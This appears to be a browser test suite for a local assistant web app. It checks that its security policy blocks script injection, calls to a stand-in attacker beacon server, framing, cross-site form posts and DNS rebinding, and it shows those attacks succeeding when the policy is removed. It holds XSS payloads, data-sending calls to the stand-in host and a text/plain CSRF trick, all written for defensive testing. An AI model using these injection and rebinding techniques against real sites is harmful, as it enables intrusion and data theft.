/**
 * What a script in the page could do if one ever ran, and what other sites can do
 * to the page and to the machine: each is tried in a real browser. So that
 * silence means something, the same is tried without what stops it, too.
 */
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { chromium, type Page } from "@playwright/test";
import { Beacon, guard, tricks } from "./attacker";
import type { Machine } from "./machine";
import { launchOptions } from "./playwright.config";
import { expect, open, TEXT, test } from "./workshop";

let beacon: Beacon;
test.beforeAll(async () => {
  beacon = await Beacon.start();
});
test.afterAll(() => beacon.stop());
test.beforeEach(() => {
  beacon.asked = [];
  beacon.page = "";
});

const COMPLAINTS =
  /Content.Security.Policy|Trusted|Failed to|blocked|refused|violates|ERR_|frame|origin|WebSocket/i;

/** What each attempt meets: a directive that is reported, or an error. */
const ATTEMPTS: Record<string, string> = {
  innerHTML: "TypeError",
  insertAdjacentHTML: "TypeError",
  "document.write": "TypeError",
  "script.src": "TypeError",
  "script.text": "TypeError",
  srcdoc: "TypeError",
  "setAttribute onclick": "TypeError",
  eval: "EvalError",
  "new Function": "EvalError",
  "setTimeout with text": "TypeError",
  "a policy of one's own": "TypeError",
  "worker of a blob": "TypeError",
  "inline script": "require-trusted-types-for",
  "inline module": "require-trusted-types-for",
  "foreign script of a parser": "TypeError",
  "javascript: link": "script-src-elem",
  "inline style": "style-src-elem",
  "style attribute": "style-src-attr",
  "foreign style": "style-src-elem",
  "foreign image": "img-src",
  "image of data": "img-src",
  "foreign font": "font-src",
  "foreign frame": "frame-src",
  "frame of data": "frame-src",
  object: "TypeError",
  media: "media-src",
  base: "base-uri",
  form: "form-action",
  sendBeacon: "connect-src",
  fetch: "connect-src",
  XMLHttpRequest: "connect-src",
  WebSocket: "connect-src",
  EventSource: "connect-src",
  import: "script-src-elem",
  modulepreload: "script-src-elem",
  prefetch: "default-src",
};

/** For that long at least, in milliseconds, whatever comes is of the attempt made last. */
const MOMENT = 60;
/** As long as that, one waits for what an attempt is to meet: a busy browser tells of a frame or a form later. */
const PATIENCE = 10_000;

/** Tries each in the page, until it meets what `met` has of it; what came of it, by its name. */
function attempts(
  page: Page,
  at: string,
  met: Record<string, string> = {},
): Promise<Record<string, string[]>> {
  const given = { at, met, moment: MOMENT, patience: PATIENCE };
  return page.evaluate(async ({ at, met, moment, patience }) => {
    const make = (name: string, attributes: Record<string, string>, child = ""): HTMLElement => {
      const element = document.createElement(name);
      if (child !== "") element.append(child);
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      (name === "link" ? document.head : document.body).append(element);
      return element;
    };
    const types = (
      window as unknown as { trustedTypes?: { createPolicy: (name: string, rules: object) => void } }
    ).trustedTypes;
    const acts: Record<string, () => unknown> = {
      innerHTML: () => (document.createElement("p").innerHTML = "<img src=x onerror=window.pwned=1>"),
      insertAdjacentHTML: () => document.body.insertAdjacentHTML("beforeend", "<b>x</b>"),
      "script.src": () => (document.createElement("script").src = `${at}/script.js`),
      "script.text": () => (document.createElement("script").text = "window.pwned = 1"),
      srcdoc: () => (document.createElement("iframe").srcdoc = "<script>parent.pwned = 1</script>"),
      "setAttribute onclick": () => document.createElement("b").setAttribute("onclick", "window.pwned = 1"),
      // biome-ignore lint/security/noGlobalEval: it is tried here to see it refused.
      eval: () => window.eval("window.pwned = 1"),
      "new Function": () => new Function("window.pwned = 1")(),
      "setTimeout with text": () => setTimeout("window.pwned = 1" as unknown as () => void),
      "a policy of one's own": () => types?.createPolicy("mine", {}),
      "worker of a blob": () => new Worker(URL.createObjectURL(new Blob([`fetch("${at}/worker")`]))),
      "inline script": () => make("script", {}, "window.pwned = 1"),
      "inline module": () => make("script", { type: "module" }, "window.pwned = 1"),
      "foreign script of a parser": () =>
        document.body.append(
          new DOMParser().parseFromString(`<script src="${at}/parsed.js"></script>`, "text/html").body,
        ),
      "javascript: link": () => make("a", { href: "javascript:window.pwned=1" }).click(),
      "inline style": () => make("style", {}, "body { background: rgb(1, 2, 3) !important }"),
      "style attribute": () => make("p", { style: "position: fixed", id: "styled" }),
      "foreign style": () => make("link", { rel: "stylesheet", href: `${at}/style.css` }),
      "foreign image": () => make("img", { src: `${at}/image.gif` }),
      "image of data": () => make("img", { src: "data:image/gif;base64,R0lGODlhAQABAAAAACw=" }),
      "foreign font": () => new FontFace("theirs", `url(${at}/font.woff2)`).load().catch(() => {}),
      "foreign frame": () => make("iframe", { src: `${at}/frame` }),
      "frame of data": () => make("iframe", { src: "data:text/html,<p>x" }),
      object: () => make("object", { data: `${at}/object` }),
      media: () => make("video", { src: `${at}/video` }),
      base: () => make("base", { href: `${at}/` }),
      form: () => (make("form", { action: `${at}/form`, target: "hidden" }) as HTMLFormElement).submit(),
      sendBeacon: () => navigator.sendBeacon(`${at}/beacon`),
      fetch: () => fetch(`${at}/fetch`, { mode: "no-cors" }).catch(() => {}),
      XMLHttpRequest: () => {
        const request = new XMLHttpRequest();
        request.open("GET", `${at}/xhr`);
        request.send();
      },
      WebSocket: () => void new WebSocket(`${at.replace("http", "ws")}/socket`),
      EventSource: () => void new EventSource(`${at}/events`),
      import: () => import(/* @vite-ignore */ `${at}/import.js`).catch(() => {}),
      modulepreload: () => make("link", { rel: "modulepreload", href: `${at}/module.js` }),
      prefetch: () => make("link", { rel: "prefetch", href: `${at}/prefetch` }),
      // Last: where it is let, it begins a new document.
      "document.write": () => document.write("<b id=styled style='position: fixed'>x</b>"),
    };
    const came: Record<string, string[]> = {};
    let now: string[] = [];
    document.addEventListener("securitypolicyviolation", (event) => now.push(event.effectiveDirective));
    for (const [name, act] of Object.entries(acts)) {
      const here: string[] = [];
      came[name] = here;
      now = here;
      // From a task of the page's own: an evaluation by the debugger is exempt from some of it.
      await new Promise<void>((resolve) => {
        setTimeout(async () => {
          try {
            await act();
          } catch (error) {
            here.push((error as Error).name);
          }
          const [wanted, began] = [met[name], performance.now()];
          const look = (): void => {
            const isOver = wanted === undefined || here.includes(wanted);
            if (isOver || performance.now() - began > patience) resolve();
            else setTimeout(look, moment);
          };
          setTimeout(look, moment);
        });
      });
    }
    return came;
  }, given);
}

/** What a script that ran would leave behind. */
const left = (page: Page) =>
  page.evaluate(() => ({
    pwned: "pwned" in window,
    background: getComputedStyle(document.body).backgroundColor,
    styled: getComputedStyle(document.getElementById("styled") as HTMLElement).position,
    isBased: !document.baseURI.startsWith(location.origin),
  }));

test("the policy stops whatever a script in the page would do, and names why", async ({
  page,
  machine,
  quiet,
}) => {
  quiet.allow(COMPLAINTS);
  const answer = await page.goto(machine.url);
  const policy = answer?.headers()["content-security-policy"] ?? "";
  expect(policy).not.toContain("unsafe");
  expect(policy).not.toMatch(/https?:|\*|data:|blob:/);
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  const came = await attempts(page, beacon.url, ATTEMPTS);
  const unmet = Object.entries(ATTEMPTS).filter(([name, met]) => !came[name]?.includes(met));
  expect({ unmet, came: unmet.map(([name]) => came[name]) }).toEqual({ unmet: [], came: [] });
  expect(Object.keys(came).toSorted()).toEqual(Object.keys(ATTEMPTS).toSorted());
  expect(await left(page)).toEqual({
    pwned: false,
    background: "rgb(255, 255, 255)",
    styled: "static",
    isBased: false,
  });
  expect(beacon.asked).toEqual([]);
});

test.describe("without the policy", () => {
  test.use({ serviceWorkers: "block" });

  /** The page as it would be if the server forgot that header; what ends it. */
  async function unprotected(page: Page, machine: Machine): Promise<() => void> {
    const server = createServer(async (request, response) => {
      const answer = await fetch(machine.url + request.url);
      response.writeHead(answer.status, { "content-type": answer.headers.get("content-type") ?? "" });
      response.end(Buffer.from(await answer.arrayBuffer()));
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`);
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
    return () => {
      server.close();
      server.closeAllConnections();
    };
  }

  test("all of it is heard: the trials above can fail", async ({ page, machine, quiet }) => {
    quiet.allow(/./);
    const end = await unprotected(page, machine);
    const came = await attempts(page, beacon.url);
    expect(Object.values(came).flat()).toEqual([]);
    expect(await left(page)).toMatchObject({ pwned: true, styled: "fixed" });
    const heard = beacon.asked.map((path) => path.split("/").at(-1)).toSorted();
    expect(heard).toEqual(
      expect.arrayContaining([
        "beacon",
        "events",
        "fetch",
        "frame",
        "image.gif",
        "import.js",
        "style.css",
        "xhr",
      ]),
    );
    end();
  });

  test("hostile text that became HTML is noticed: so can the trials of hostile text", async ({
    page,
    machine,
    quiet,
  }) => {
    quiet.allow(/./);
    const guarded = await guard(page, machine, beacon);
    const end = await unprotected(page, machine);
    await page.evaluate(
      (text) => {
        document.body.append(document.createElement("main"));
        for (const one of text) document.body.lastElementChild?.insertAdjacentHTML("beforeend", one);
        // Not the one that leads away from what the others do.
      },
      tricks(beacon.url).filter((one) => !one.includes("http-equiv")),
    );
    await expect(guarded.nothingHappened()).rejects.toThrow();
    expect(beacon.asked).toContain("/img.gif");
    expect(beacon.connections).toBeGreaterThan(0);
    end();
  });
});

test("a link that someone follows tells nothing of where it stood, and can't reach back", async ({
  page,
  machine,
  model,
}) => {
  const draft = await machine.draft(TEXT);
  model.answer = `See [their page](${beacon.url}/followed).`;
  beacon.page = "<!doctype html><title>Theirs</title>";
  await open(page, machine, draft);
  await page.getByLabel("Message to the assistant").fill("Where?");
  await page.keyboard.press("Control+Enter");
  const popup = page.waitForEvent("popup");
  await page.getByRole("link", { name: "their page" }).click();
  const theirs = await popup;
  await expect(theirs).toHaveTitle("Theirs");
  expect(beacon.asked.filter((path) => path !== "/favicon.ico")).toEqual(["/followed"]);
  expect(await theirs.evaluate(() => ({ referrer: document.referrer, opener: window.opener }))).toEqual({
    referrer: "",
    opener: null,
  });
});

/** The two names that a machine has for itself: to a browser, other sites than each other. */
const named = (name: string, address: string): string => address.replace("127.0.0.1", name);

test("no other page can frame it, or hold on to its window", async ({ page, machine, quiet }) => {
  quiet.allow(COMPLAINTS);
  beacon.page = "<!doctype html><title>Bait</title><button>Win</button>";
  for (const name of ["127.0.0.1", "localhost"]) {
    await page.goto(named(name, beacon.url));
    for (const path of ["/", "/library", "/prompt-workshop?clone=default_research", "/settings"]) {
      await page.evaluate((src) => {
        document.querySelector("iframe")?.remove();
        const frame = document.createElement("iframe");
        frame.src = src;
        document.body.append(frame);
      }, machine.url + path);
      await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
    }
    await expect(page.frameLocator("iframe").getByText(/Library|Drafts/)).toHaveCount(0);

    // A window that it opens is cut off from it: nothing of it can be read, moved or written to.
    const opened = page.waitForEvent("popup");
    await page.evaluate(
      (address) => Object.assign(window, { theirs: window.open(address) }),
      `${machine.url}/library`,
    );
    const popup = await opened;
    await expect(popup.getByRole("heading", { level: 1 })).toHaveText("Library");
    expect(await popup.evaluate(() => window.opener)).toBe(null);
    await expect
      .poll(() => page.evaluate(() => (window as unknown as { theirs: Window }).theirs.closed))
      .toBe(true);
    await popup.close();
  }
});

test("what another site has the browser send is refused, whatever way it takes", async ({
  page,
  machine,
  quiet,
}) => {
  quiet.allow(/./);
  beacon.page = "<!doctype html><title>Elsewhere</title>";
  const draft = await machine.draft(TEXT, "Only mine");
  const before = await machine.ask("GET", "/auspex/prompts/workshop/drafts?limit=100");
  const answers: string[] = [];
  page.context().on("response", (response) => {
    if (!response.url().startsWith(machine.url)) return;
    if (!response.url().includes("/api/") && !response.url().includes("/local/")) return;
    answers.push(`${response.request().method()} ${response.status()}`);
  });
  const start = "/api/auspex/prompts/workshop/start";
  for (const name of ["127.0.0.1", "localhost"]) {
    await page.goto(named(name, beacon.url));
    const read = await page.evaluate(
      async ([machine, start, draft]) => {
        const came: string[] = [];
        const body = '{"draft_name": "From elsewhere"}';
        const tell = async (answer: Promise<Response>): Promise<void> => {
          came.push(
            await answer.then(
              async (one) => `${one.type} ${await one.text()}`,
              (error) => error.name,
            ),
          );
        };
        for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"])
          await tell(
            fetch(machine + start, {
              method: "POST",
              mode: "no-cors",
              headers: { "content-type": type },
              body,
            }),
          );
        await tell(
          fetch(machine + start, { method: "POST", headers: { "content-type": "application/json" }, body }),
        );
        await tell(
          fetch(`${machine}/local/token`, { method: "POST", mode: "no-cors", body: '{"user": "ada"}' }),
        );
        await tell(fetch(`${machine}/api/auspex/prompts/workshop/drafts/${draft}`, { method: "DELETE" }));
        await tell(fetch(`${machine}/api/auspex/prompts/workshop/drafts/${draft}`));
        await tell(fetch(`${machine}/config.json`));
        navigator.sendBeacon(machine + start, body);
        // A form without a script, and one from a page that has no origin.
        for (const sandbox of [null, "allow-forms allow-scripts"]) {
          const frame = document.createElement("iframe");
          if (sandbox) frame.setAttribute("sandbox", sandbox);
          frame.srcdoc = `<form method=post enctype=text/plain action="${machine + start}"><input name='{"draft_name": "From elsewhere", "x": "' value='"}'></form><script>document.forms[0].submit()</script>`;
          document.body.append(frame);
        }
        await new Promise((resolve) => setTimeout(resolve, 400));
        return came;
      },
      [machine.url, start, draft] as const,
    );
    for (const one of read) expect(one).toMatch(/^(?:opaque $|TypeError)/);
  }
  expect(answers.filter((one) => one.startsWith("POST")).length).toBeGreaterThanOrEqual(12);
  for (const answer of answers) expect(answer).toMatch(/ (?:403|405)$/);
  expect(await machine.ask("GET", "/auspex/prompts/workshop/drafts?limit=100")).toEqual(before);
});

test("a name that was made to point to this machine gets nothing from it", async ({ machine }) => {
  const draft = await machine.draft(TEXT, "Only mine");
  const browser = await chromium.launch({
    ...launchOptions,
    args: [
      ...launchOptions.args,
      "--host-resolver-rules=MAP rebound.example 127.0.0.1",
      // Chromium itself has begun to stop this; other browsers haven't.
      "--disable-features=LocalNetworkAccessChecks,LocalNetworkAccessChecksWarn",
    ],
  });
  try {
    const page = await browser.newPage();
    const rebound = machine.url.replace("127.0.0.1", "rebound.example");
    // First the name leads to the attacker, who answers with a page; from then on to this machine.
    await page.route(`${rebound}/`, (route) =>
      route.fulfill({ contentType: "text/html", body: "<title>Theirs</title>" }),
    );
    await page.goto(`${rebound}/`);
    const came = await page.evaluate(async (draft) => {
      const at = `/api/auspex/prompts/workshop/drafts/${draft}`;
      const all = [
        fetch(at),
        fetch(at, { method: "DELETE" }),
        fetch("/api/topics"),
        fetch("/local/token", {
          method: "POST",
          headers: { "content-type": "application/json" },
          body: '{"user": "local"}',
        }),
        fetch("/library"),
        fetch("/config.json"),
      ];
      return (await Promise.all(all)).map((answer) => answer.status);
    }, draft);
    expect(came).toEqual([403, 403, 403, 403, 403, 403]);
    // To the ports of DynamoDB and SQS it is no better.
    const tables = machine.dynamodb.replace("127.0.0.1", "rebound.example");
    const answer = page.waitForResponse(`${tables}/`);
    await page.goto(tables).catch(() => "An empty refusal is an error page.");
    expect((await answer).status()).toBe(403);
  } finally {
    await browser.close();
  }
  expect(await machine.saved(draft)).toMatchObject({ draft_name: "Only mine" });
});

test("every kind of answer has the headers that fit it", async ({ page, machine }) => {
  await page.goto(machine.url);
  const draft = await machine.draft(TEXT);
  const script = await page.locator("script[src^='/assets/']").first().getAttribute("src");
  const headers = async (path: string, init: RequestInit = {}): Promise<Headers> =>
    (await fetch(machine.url + path, init)).headers;
  for (const path of [
    "/",
    "/library",
    `/prompt-workshop?draft_id=${draft}`,
    script ?? "",
    "/sw.js",
    "/theme.js",
    "/robots.txt",
  ]) {
    const found = await headers(path);
    const given = Object.fromEntries(
      [
        "x-content-type-options",
        "referrer-policy",
        "cross-origin-opener-policy",
        "cross-origin-resource-policy",
        "permissions-policy",
      ].map((name) => [name, found.get(name)]),
    );
    expect(given, path).toEqual({
      "x-content-type-options": "nosniff",
      "referrer-policy": "no-referrer",
      "cross-origin-opener-policy": "same-origin",
      "cross-origin-resource-policy": "same-origin",
      "permissions-policy": "camera=(), microphone=(), geolocation=()",
    });
    expect(found.get("content-security-policy"), path).toContain("frame-ancestors 'none'");
  }
  // Of the API: never kept, never taken for anything but what it says it is.
  const json = { method: "POST", headers: { "content-type": "application/json" } };
  const message = { ...json, body: JSON.stringify({ chat_id: draft, message: "Hello" }) };
  const api: [path: string, type: string, init?: RequestInit][] = [
    ["/api/topics", "application/json"],
    ["/api/openapi.json", "application/json"],
    [`/api/auspex/prompts/workshop/drafts/${crypto.randomUUID()}`, "application/problem+json"],
    ["/api/auspex/chat/message", "text/event-stream", message],
    ["/api/nowhere", "application/problem+json"],
    ["/assets/nowhere.js", "application/problem+json"],
    ["/config.json", "application/json"],
  ];
  for (const [path, type, init] of api) {
    const found = await headers(path, init);
    expect(found.get("content-type"), path).toContain(type);
    expect(found.get("access-control-allow-origin"), path).toBe(null);
    expect(found.get("cache-control"), path).toBe("no-store");
    expect(found.get("x-content-type-options"), path).toBe("nosniff");
  }
});
